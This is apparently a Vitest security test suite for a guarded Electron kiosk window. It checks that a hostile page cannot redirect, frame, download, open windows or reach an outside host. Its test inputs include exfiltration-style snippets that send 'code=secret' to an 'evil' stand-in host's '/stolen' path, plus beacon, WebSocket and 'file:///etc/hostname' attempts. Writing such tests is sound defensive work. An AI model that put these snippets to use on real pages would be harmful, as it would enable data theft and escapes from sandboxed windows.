import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { GuestEvent } from '../../src/main/kiosk/index.ts';
import type { TlsMaterial } from '../../src/simulator/wire/tls.ts';
import { startGuarded, type Guarded } from '../support/guarded.ts';
import { newTls, page, startHttp, startHttps, type TestServer } from '../support/hostile.ts';

// A guarded window in real Electron against a page that tries to get out of it.

let tls: TlsMaterial;
let guarded: Guarded;
/** The host that the rules allow. */
let allowed: TestServer;
/** One that they do not. It has the same certificate, so nothing but the rules is in its way. */
let evil: TestServer;
let loopback: TestServer;

beforeAll(async () => {
  tls = await newTls();
  evil = await startHttps(tls, (_request, response) => page(response, '<h1>evil</h1>'));
  loopback = await startHttp((_request, response) => page(response, '<h1>signed in</h1>'));
  allowed = await startHttps(tls, (request, response) => {
    switch (request.url) {
      case '/redirect':
        response.writeHead(302, { location: `${evil.origin}/redirected` }).end();
        return;
      case '/attachment':
        page(response, 'x', { 'content-disposition': 'attachment; filename="x.html"' });
        return;
      case '/octets':
        response.writeHead(200, { 'content-type': 'application/octet-stream' }).end('octets');
        return;
      case '/password':
        response.writeHead(401, { 'www-authenticate': 'Basic realm="x"' }).end('closed');
        return;
      default:
        page(response, `<h1>allowed</h1><input id="name" autofocus><button>b</button>`);
    }
  });
  guarded = await startGuarded();
}, 120_000);

afterAll(async () => {
  await guarded.stop();
  await Promise.all([allowed, evil, loopback].map((server) => server.stop()));
});

const open = async (more: { loopbackRedirect?: boolean; quietMs?: number; trusted?: boolean } = {}) => {
  const { loopbackRedirect = false, trusted = true, ...others } = more;
  const rules = { hosts: [allowed.host], resourceHosts: [], loopbackRedirect };
  const fingerprints = trusted ? [tls.leafFingerprint] : ['sha256/another'];
  await guarded.harness.evaluate((harness, options) => harness.open(options), {
    rules,
    fingerprints,
    ...others,
  });
  await guarded.harness.evaluate(
    (harness, address) => harness.guest().load(address),
    `${allowed.origin}/start`,
  );
};
const inPage = (code: string): Promise<unknown> =>
  guarded.harness.evaluate((harness, text) => harness.inPage(text), code);
const events = (): Promise<GuestEvent[]> => guarded.harness.evaluate((harness) => harness.events());
const blocked = (): Promise<unknown[]> =>
  guarded.harness.evaluate((harness) => harness.lines().map(({ fields }) => fields));
const close = () => guarded.harness.evaluate((harness) => harness.guest().close());

/** Waits until the log says that the hook has blocked the host. */
const untilBlocked = (hook: string, host: string) =>
  expect.poll(blocked, { timeout: 10_000 }).toContainEqual({ hook, host });

beforeEach(async () => {
  await guarded.harness.evaluate((harness) => harness.forget());
  evil.asked.length = 0;
  loopback.asked.length = 0;
  allowed.asked.length = 0;
});

afterEach(async () => {
  await close();
});

describe('a hostile page', () => {
  beforeEach(() => open());

  /** The page is where it was, its scripts run, nobody else was asked for anything, and nothing new is open. */
  const nothingHappened = async (): Promise<void> => {
    expect(await inPage('location.pathname + document.querySelector("h1").textContent')).toBe(
      '/startallowed',
    );
    expect(evil.asked).toEqual([]);
    expect(await guarded.harness.evaluate((harness) => harness.contentsCount())).toBe(2);
  };

  it.each([
    ['a script', 'location.href = ADDRESS'],
    [
      'a link',
      `document.body.insertAdjacentHTML('beforeend', '<a href="' + ADDRESS + '">x</a>'); document.querySelector('a').click()`,
    ],
    [
      'a form',
      `document.body.insertAdjacentHTML('beforeend', '<form method="post" action="' + ADDRESS + '"></form>'); document.querySelector('form').submit()`,
    ],
    [
      'a refresh',
      `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=' + ADDRESS + '">')`,
    ],
  ])('cannot lead to another host by %s, and the person is told which', async (_name, code) => {
    await inPage(`${code.replaceAll('ADDRESS', JSON.stringify(`${evil.origin}/stolen?code=secret`))}; 0`);
    await untilBlocked('navigate', evil.host);
    await nothingHappened();
    expect(await events()).toContainEqual({ kind: 'blocked-host', host: evil.host });
    expect(JSON.stringify([await events(), await blocked()])).not.toContain('secret');
  });

  it('cannot lead to another host by a redirect of an allowed server', async () => {
    await inPage('location.href = "/redirect"; 0');
    // By this hook and not only at the request that would follow.
    await untilBlocked('redirect', evil.host);
    expect(await events()).toContainEqual({ kind: 'blocked-host', host: evil.host });
    expect(evil.asked).toEqual([]);
  });

  it.each([
    ['another host', () => JSON.stringify(`${evil.origin}/framed`), () => evil.host],
    ['data of its own', () => '"data:text/html,<h1>data</h1>"', () => 'data:'],
    ['a blob of its own', () => 'URL.createObjectURL(new Blob(["x"], {type: "text/html"}))', () => 'blob:'],
    ['a program', () => '"ms-settings:"', () => 'ms-settings:'],
  ])('cannot frame %s', async (_name, source, host) => {
    await inPage(
      `(() => { const frame = document.createElement('iframe'); frame.src = ${source()}; document.body.append(frame); })()`,
    );
    await untilBlocked('navigate', host());
    await nothingHappened();
  });

  it('cannot lead to a blob', async () => {
    await inPage('location.href = URL.createObjectURL(new Blob(["x"], {type: "text/html"})); 0');
    await untilBlocked('navigate', 'blob:');
    await nothingHappened();
  });

  it.each([
    'data:text/html,x',
    'file:///etc/hostname',
    'chrome://version/',
    'view-source:https://localhost/',
    'mailto:x@example.com',
    'ms-settings:',
    'javascript:document.title=1',
  ])('stays where it is when it wants to be %s', async (address) => {
    await inPage(`location.href = ${JSON.stringify(address)}; 0`);
    await inPage('new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))');
    await nothingHappened();
  });

  it.each(['"/start"', '"about:blank"', '"javascript:1"', '"file:///etc/hostname"'])(
    'opens no window with %s',
    async (address) => {
      expect(await inPage(`window.open(${address}) === null`)).toBe(true);
      await nothingHappened();
    },
  );

  it('opens no window with another host, nor by a link that asks for one', async () => {
    expect(await inPage(`window.open(${JSON.stringify(evil.origin)}) === null`)).toBe(true);
    await untilBlocked('new-window', evil.host);
    await inPage(
      `document.body.insertAdjacentHTML('beforeend', '<a href="/start" target="_blank">x</a>'); document.querySelector('a').click()`,
    );
    await untilBlocked('new-window', allowed.host);
    await nothingHappened();
  });

  it.each(['/attachment', '/octets'])('saves nothing that comes as a download: %s', async (path) => {
    await inPage(`location.href = ${JSON.stringify(path)}; 0`);
    await expect.poll(() => allowed.asked).toContain(`GET ${path}`);
    expect(await guarded.harness.evaluate((harness) => harness.downloads())).toBe(0);
    await nothingHappened();
  });

  it('saves nothing either when the main process loads it, to whom the policy of the page does not apply', async () => {
    await guarded.harness.evaluate(
      (harness, address) => harness.guest().load(address),
      `${allowed.origin}/attachment`,
    );
    await untilBlocked('download', allowed.host);
    expect(await guarded.harness.evaluate((harness) => harness.downloads())).toBe(0);
  });

  it('saves nothing by a link with a download attribute', async () => {
    await inPage(
      `document.body.insertAdjacentHTML('beforeend', '<a href="/start?download" download="x.html">x</a>'); document.querySelector('a').click()`,
    );
    await inPage('new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))');
    expect(await guarded.harness.evaluate((harness) => harness.downloads())).toBe(0);
    await nothingHappened();
  });

  it.each([
    'print()',
    'alert(1)',
    'confirm(1)',
    'try { prompt(1) } catch {}',
    'document.querySelector("h1").requestFullscreen().catch(() => 0)',
  ])('cannot stop the desk by %s', async (code) => {
    await inPage(`${code}; 0`);
    await nothingHappened();
  });

  it('cannot stop the desk by print() of a frame, nor keep the person by "leave this page?"', async () => {
    await inPage(`new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.onload = () => { frame.contentWindow.print(); frame.contentWindow.alert(1); resolve(0); };
      frame.src = '/start?frame';
      document.body.append(frame);
    })`);
    await inPage('window.onbeforeunload = (event) => { event.preventDefault(); return "stay"; }; 0');
    await guarded.harness.evaluate((harness) => harness.guest().reload());
    await nothingHappened();
  });

  it('gets no resource of another host, in whatever way it asks', async () => {
    const ways = [
      `fetch(ADDRESS, { mode: 'no-cors' }).catch(() => 0)`,
      `new Promise((resolve) => { const image = new Image(); image.onerror = image.onload = resolve; image.src = ADDRESS; })`,
      `new Promise((resolve) => { const socket = new WebSocket(ADDRESS.replace('https', 'wss')); socket.onerror = socket.onopen = resolve; })`,
      `new Promise((resolve) => { const script = document.createElement('script'); script.onerror = script.onload = resolve; script.src = ADDRESS; document.head.append(script); })`,
      `Promise.resolve(navigator.sendBeacon(ADDRESS, 'x'))`,
    ];
    const all = ways.join(',').replaceAll('ADDRESS', JSON.stringify(`${evil.origin}/resource`));
    await inPage(`Promise.all([${all}]).then(() => 0)`);
    await nothingHappened();
  });

  it('has no permission', async () => {
    const answers = await inPage(`Promise.all([
      Notification.requestPermission(),
      navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'granted', (error) => error.name),
      navigator.mediaDevices.getDisplayMedia().then(() => 'granted', (error) => error.name),
      navigator.clipboard.readText().then(() => 'granted', (error) => error.name),
      navigator.clipboard.writeText('x').then(() => 'granted', (error) => error.name),
      new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('granted'), (error) => resolve('code ' + error.code))),
      navigator.permissions.query({ name: 'notifications' }).then(({ state }) => state),
    ])`);
    expect(answers).not.toContain('granted');
    expect(answers).toContain('denied');
  });

  it('is offered no device', async () => {
    const answers = await inPage(`Promise.all([
      navigator.hid.requestDevice({ filters: [] }).then((devices) => devices.length, (error) => error.name),
      navigator.usb.requestDevice({ filters: [] }).then(() => 'device', (error) => error.name),
      navigator.serial.requestPort().then(() => 'port', (error) => error.name),
    ])`);
    expect(answers).toEqual([0, 'NotFoundError', 'NotFoundError']);
  });

  it('sees neither bridge nor Node, in itself or in a frame', async () => {
    const kinds = 'typeof window.tapdesk + typeof require + typeof process + typeof module';
    expect(await inPage(kinds)).toBe('undefined'.repeat(4));
    expect(
      await inPage(`new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.onload = () => resolve(['tapdesk', 'require', 'process', 'module'].map((name) => typeof frame.contentWindow[name]).join(''));
        frame.src = '/start?frame';
        document.body.append(frame);
      })`),
    ).toBe('undefined'.repeat(4));
  });

  it('is answered no password prompt', async () => {
    expect(await inPage('fetch("/password").then(({ status }) => status)')).toBe(401);
    await nothingHappened();
  });
});

describe('the loopback redirect', () => {
  const post = () =>
    inPage(
      `document.body.insertAdjacentHTML('beforeend', '<form method="post" action="${loopback.origin}"><input name="code" value="x"></form>'); document.querySelector('form').submit()`,
    );

  it('can be posted to from the sign-in page', async () => {
    await open({ loopbackRedirect: true });
    await post();
    await expect.poll(() => loopback.asked).toEqual(['POST /']);
    await expect.poll(events).toContainEqual({ kind: 'navigated', host: loopback.host, secure: false });
  });

  it('can be redirected to', async () => {
    await open({ loopbackRedirect: true });
    await inPage(`location.href = ${JSON.stringify(`${loopback.origin}/?code=x`)}; 0`);
    await expect.poll(() => loopback.asked).toEqual(['GET /?code=x']);
  });

  it.each(['/other', '/favicon.ico'])('has no other path: %s', async (path) => {
    await open({ loopbackRedirect: true });
    await inPage(`location.href = ${JSON.stringify(loopback.origin + path)}; 0`);
    await untilBlocked('navigate', loopback.host);
    expect(loopback.asked).toEqual([]);
  });

  it('is no resource and no frame', async () => {
    await open({ loopbackRedirect: true });
    await inPage(`fetch(${JSON.stringify(loopback.origin)}, { mode: 'no-cors' }).catch(() => 0)`);
    await inPage(
      `(() => { const frame = document.createElement('iframe'); frame.src = ${JSON.stringify(loopback.origin)}; document.body.append(frame); })()`,
    );
    await untilBlocked('navigate', loopback.host);
    expect(loopback.asked).toEqual([]);
  });

  it('is closed where the rules do not name it', async () => {
    await open();
    await post();
    await untilBlocked('navigate', loopback.host);
    expect(loopback.asked).toEqual([]);
  });
});

describe('a server', () => {
  it('with another certificate than the trusted one is not shown', async () => {
    await open({ trusted: false });
    expect(await events()).toContainEqual({ kind: 'not-responding' });
    expect(await events()).not.toContainEqual({ kind: 'ready' });
    expect(allowed.asked).toEqual([]);
  });

  it('is not asked for an address that the main process must not load', async () => {
    await open();
    await guarded.harness.evaluate((harness, address) => harness.guest().load(address), evil.origin);
    expect(await events()).toContainEqual({ kind: 'blocked-host', host: evil.host });
    expect(evil.asked).toEqual([]);
  });
});
